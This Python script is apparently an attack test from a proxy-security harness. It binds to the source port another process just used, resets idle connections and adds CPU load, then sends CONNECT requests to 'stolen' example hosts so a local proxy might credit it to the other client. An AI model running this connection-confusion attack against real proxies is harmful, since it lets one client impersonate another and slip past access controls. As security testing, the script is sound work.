"""Have the door take our connection for another call's: connect from the very port from which ``neighbour.py`` has just
connected, once while the door is full (``full`` idle connections) and turned it away, and many times right after a reset.

The program cannot know as whom it was taken, so it never says that it succeeded: the door's records of ``stolen`` do.
"""

import socket
import struct
import subprocess
import sys
import time

import other_call
import say
import twins

DOOR, PORT, TRIES, WHEN_FULL = 3128, 40_404, 40, 25
RESET = struct.pack("ii", 1, 0)


def ask(given, words):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(5)
        sock.connect("\0neighbour-" + given["marker"])
        sock.sendall(words)
        return sock.recv(64)


def steal(number):
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        sock.settimeout(3)
        sock.bind(("127.0.0.1", PORT))
        sock.connect(("127.0.0.1", DOOR))
        host = f"stolen-{number}.example:443"
        sock.sendall(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        return sock.recv(64).split(b"\r\n")[0]


def attack(given):
    other_call.neighbour(given)
    request = f"connect {PORT} {DOOR}".encode()
    said, errors = 0, []
    load = [subprocess.Popen([sys.executable, "-c", "while True: pass"]) for _ in range(2)]
    for number in range(TRIES):
        idle = (
            [socket.create_connection(("127.0.0.1", DOOR)) for _ in range(int(given["full"]))] if number < WHEN_FULL else []
        )
        try:
            ask(given, request)
            for sock in idle:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
                sock.close()
            if idle:
                time.sleep(0.03)
            said += b"403" in steal(number)
        except OSError as error:
            errors.append(str(error))
    for process in load:
        process.kill()
        process.wait()
    ask(given, b"end")
    return False, f"{said} of {TRIES} answered; {sorted(set(errors))}"


if __name__ == "__main__":
    say.main("reused_port", attack, twins.fetch_allowed)
